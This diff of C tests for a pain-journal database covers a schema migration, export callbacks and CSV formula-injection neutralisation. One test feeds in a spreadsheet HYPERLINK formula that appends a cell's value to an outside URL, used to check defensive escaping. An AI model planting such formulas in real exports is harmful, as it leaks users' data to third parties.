@@ -148,7 +148,7 @@ static void test_open_new(void)
     CHECK(!kf_store_readonly(s));
     CHECK_INT(count_checkins(s), 0);
     kf_store_close(s);
-    /* WAL mode, our application id, one version row. */
+    /* WAL mode, our application id, one version row per migration. */
     sqlite3 *db;
     CHECK_INT(sqlite3_open_v2(p, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
     sqlite3_stmt *st;
@@ -163,7 +163,7 @@ static void test_open_new(void)
     sqlite3_prepare_v2(db, "SELECT count(*), max(version) FROM schema_version",
                        -1, &st, NULL);
     CHECK_INT(sqlite3_step(st), SQLITE_ROW);
-    CHECK_INT(sqlite3_column_int(st, 0), 1);
+    CHECK_INT(sqlite3_column_int(st, 0), KF_STORE_SCHEMA);
     CHECK_INT(sqlite3_column_int(st, 1), KF_STORE_SCHEMA);
     sqlite3_finalize(st);
     sqlite3_close(db);
@@ -308,15 +308,15 @@ static void test_consultations(void)
     kf_buf_init(&err);
     CHECK_INT(kf_store_add_consultation(s, "knot left of my spine",
               "[{\"id\":\"pain_medial_border\",\"state\":\"present\"}]",
-              "{\"causes\":[]}", "0123456789abcdef", &id, &err), KF_OK);
+              "0123456789abcdef", &id, &err), KF_OK);
     CHECK(id > 0);
-    CHECK_INT(kf_store_add_consultation(s, NULL, "[]", "{}", "v2", NULL, &err),
+    CHECK_INT(kf_store_add_consultation(s, NULL, "[]", "v2", NULL, &err),
               KF_OK);
-    CHECK_INT(kf_store_add_consultation(s, "x", "[oops", "{}", "v", NULL, &err),
+    CHECK_INT(kf_store_add_consultation(s, "x", "[oops", "v", NULL, &err),
               KF_EPARSE);
     CHECK_CONTAINS(err.s, "findings is not valid JSON");
     kf_buf_free(&err);
-    CHECK_INT(kf_store_add_consultation(s, "x", "[]", NULL, "v", NULL, &err),
+    CHECK_INT(kf_store_add_consultation(s, "x", NULL, "v", NULL, &err),
               KF_EINVAL);
     kf_buf_free(&err);
     kf_consultation_list l;
@@ -692,14 +692,20 @@ static void test_threads(void)
     kf_store_close(s);
 }
 
+/* What an export gets for a consultation's result (worked out again by the
+ * caller in real use). */
+static json_t *export_result(const kf_consultation *c, void *ctx)
+{
+    (void)c; (void)ctx;
+    return json_loads("{\"causes\":[{\"id\":\"latissimus_dorsi\"}]}", 0, NULL);
+}
+
 static void test_export(void)
 {
     kf_store *s = open_ok(tpath("export.db"));
     if (!s)
         return;
-    kf_store_add_consultation(s, "knot, \"here\"", "[]",
-                              "{\"causes\":[{\"id\":\"latissimus_dorsi\"}]}",
-                              "abc", NULL, NULL);
+    kf_store_add_consultation(s, "knot, \"here\"", "[]", "abc", NULL, NULL);
     kf_checkin c = sample(6);
     c.region = "medial_border";
     c.side = KF_SIDE_LEFT;
@@ -712,7 +718,7 @@ static void test_export(void)
 
     kf_buf out;
     kf_buf_init(&out);
-    CHECK_INT(kf_store_export(s, KF_EXPORT_JSON, &out, NULL), KF_OK);
+    CHECK_INT(kf_store_export(s, KF_EXPORT_JSON, export_result, NULL, &out, NULL), KF_OK);
     json_t *root = json_loads(out.s, 0, NULL);
     CHECK(root != NULL);
     json_t *co = json_object_get(root, "consultations");
@@ -734,8 +740,9 @@ static void test_export(void)
     json_decref(root);
     kf_buf_free(&out);
 
-    CHECK_INT(kf_store_export(s, KF_EXPORT_CSV, &out, NULL), KF_OK);
+    CHECK_INT(kf_store_export(s, KF_EXPORT_CSV, export_result, NULL, &out, NULL), KF_OK);
     CHECK(!strncmp(out.s, "type,id,at,pain,", 16));
+    CHECK_CONTAINS(out.s, ",abc,[],\"{\"\"causes\"\":[{\"\"id\"\":\"\"latissimus_dorsi\"\"}]}\"\r\n");
     CHECK_CONTAINS(out.s, "\r\nconsultation,1,");
     CHECK_CONTAINS(out.s, "\"knot, \"\"here\"\"\"");
     CHECK_CONTAINS(out.s, ",medial_border,left,\"tennis_ball,heat\",2,,");
@@ -774,7 +781,7 @@ static void test_oom(void)
         kf_buf out;
         kf_buf_init(&out);
         kf_alloc_fail_after(k);
-        e = kf_store_export(s, KF_EXPORT_CSV, &out, NULL);
+        e = kf_store_export(s, KF_EXPORT_CSV, NULL, NULL, &out, NULL);
         kf_alloc_fail_after(-1);
         CHECK(e == KF_OK || e == KF_ENOMEM);
         kf_buf_free(&out);
@@ -791,6 +798,102 @@ static void test_oom(void)
     kf_store_close(s);
 }
 
+/* CSV export: a cell a spreadsheet would run as a formula is neutralised
+ * with a leading quote; other cells are as they were. */
+static void test_csv_formulas(void)
+{
+    kf_store *s = open_ok(tpath("csv.db"));
+    static const char *const notes[] = {
+        "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")", "+1+1", "-2+3",
+        "@SUM(A1:A9)", "\tindented", "\rreturn", "plain = fine", "a-b",
+    };
+    for (size_t i = 0; i < KF_ARRAY_LEN(notes); i++) {
+        kf_checkin c = sample(2);
+        c.note = notes[i];
+        CHECK_INT(kf_store_add_checkin(s, &c, NULL, NULL), KF_OK);
+    }
+    kf_buf out;
+    kf_buf_init(&out);
+    CHECK_INT(kf_store_export(s, KF_EXPORT_CSV, NULL, NULL, &out, NULL), KF_OK);
+    CHECK_CONTAINS(out.s, ",\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"click\"\")\",");
+    CHECK_CONTAINS(out.s, ",\"'+1+1\",");
+    CHECK_CONTAINS(out.s, ",\"'-2+3\",");
+    CHECK_CONTAINS(out.s, ",\"'@SUM(A1:A9)\",");
+    CHECK_CONTAINS(out.s, ",\"'\tindented\",");
+    CHECK_CONTAINS(out.s, ",\"'\rreturn\",");
+    CHECK_CONTAINS(out.s, ",plain = fine,");
+    CHECK_CONTAINS(out.s, ",a-b,");
+    /* No cell starts with a formula character any more. */
+    for (const char *p = out.s; p && *p; p++)
+        if ((*p == ',' || *p == '\n') && p[1] && strchr("=+-@", p[1]))
+            CHECK(!"a cell starts with a formula character");
+    kf_buf_free(&out);
+    kf_store_close(s);
+}
+
+/* A journal of schema 1 (each consultation with its ~15 KB result) is
+ * brought to schema 2: the result column goes, the words, findings, KB
+ * version and every check-in stay, and the file gives the room back. */
+static void test_migrate_v1(void)
+{
+    const char *p = tpath("v1.db");
+    sqlite3 *db = NULL;
+    CHECK_INT(sqlite3_open(p, &db), SQLITE_OK);
+    char big[16000];
+    memset(big, 'x', sizeof big - 1);
+    big[sizeof big - 1] = '\0';
+    char *sql = sqlite3_mprintf(
+        "PRAGMA application_id = %d;"
+        "CREATE TABLE schema_version (version INTEGER PRIMARY KEY, applied_at TEXT NOT NULL) STRICT;"
+        "INSERT INTO schema_version VALUES (1, '2024-01-01T00:00:00Z');"
+        "CREATE TABLE consultations (id INTEGER PRIMARY KEY, at TEXT NOT NULL CHECK (length(at) = 20),"
+        " text TEXT NOT NULL, findings TEXT NOT NULL, result TEXT NOT NULL, kb_version TEXT NOT NULL) STRICT;"
+        "CREATE INDEX consultations_at ON consultations (at);"
+        "CREATE TABLE checkins (id INTEGER PRIMARY KEY, at TEXT NOT NULL CHECK (length(at) = 20),"
+        " pain INTEGER NOT NULL CHECK (pain BETWEEN 0 AND 10), pain_before INTEGER, region TEXT,"
+        " side TEXT NOT NULL DEFAULT '', did TEXT NOT NULL DEFAULT '', relief_hours REAL,"
+        " worse_after TEXT NOT NULL DEFAULT '', done_s INTEGER, stopped_early INTEGER NOT NULL DEFAULT 0,"
+        " via TEXT NOT NULL DEFAULT 'cli', note TEXT NOT NULL DEFAULT '') STRICT;"
+        "CREATE INDEX checkins_at ON checkins (at);"
+        "INSERT INTO checkins (at, pain, note) VALUES ('2024-01-02T00:00:00Z', 5, 'kept');",
+        0x4b6e6f74);
+    CHECK_INT(sqlite3_exec(db, sql, NULL, NULL, NULL), SQLITE_OK);
+    sqlite3_free(sql);
+    for (int i = 0; i < 200; i++) {
+        sql = sqlite3_mprintf("INSERT INTO consultations (at, text, findings, result, kb_version) "
+                              "VALUES ('2024-01-01T00:00:%02dZ', 'words %d', "
+                              "'{\"findings\":[]}', '{\"pad\":\"%s\"}', 'v1kb')",
+                              i % 60, i, big);
+        CHECK_INT(sqlite3_exec(db, sql, NULL, NULL, NULL), SQLITE_OK);
+        sqlite3_free(sql);
+    }
+    sqlite3_close(db);
+    struct stat st0, st1;
+    CHECK(stat(p, &st0) == 0 && st0.st_size > 200 * 15000);
+    kf_store *s = open_ok(p);
+    CHECK(s != NULL);
+    if (!s)
+        return;
+    CHECK_INT(kf_store_schema_version(s), 2);
+    kf_consultation_list l;
+    CHECK_INT(kf_store_list_consultations(s, 0, &l, NULL), KF_OK);
+    CHECK_INT(l.n, 200);
+    if (l.n == 200) {
+        CHECK_STR(l.v[0].text, "words 0");
+        CHECK_STR(l.v[0].findings_json, "{\"findings\":[]}");
+        CHECK_STR(l.v[0].kb_version, "v1kb");
+    }
+    kf_consultation_list_free(&l);
+    CHECK_INT(count_checkins(s), 1);
+    CHECK_INT(kf_store_add_consultation(s, "new", "{}", "v2kb", NULL, NULL), KF_OK);
+    kf_store_close(s);
+    CHECK(stat(p, &st1) == 0 && st1.st_size < st0.st_size / 10);
+    /* Opened again: nothing more to do. */
+    s = open_ok(p);
+    CHECK(s != NULL && kf_store_schema_version(s) == 2);
+    kf_store_close(s);
+}
+
 int main(void)
 {
     snprintf(tmpdir, sizeof tmpdir, "/tmp/kf-test-store-XXXXXX");
@@ -799,6 +902,8 @@ int main(void)
         return 1;
     }
     RUN(test_time);
+    RUN(test_csv_formulas);
+    RUN(test_migrate_v1);
     RUN(test_open_new);
     RUN(test_roundtrip);
     RUN(test_validation);
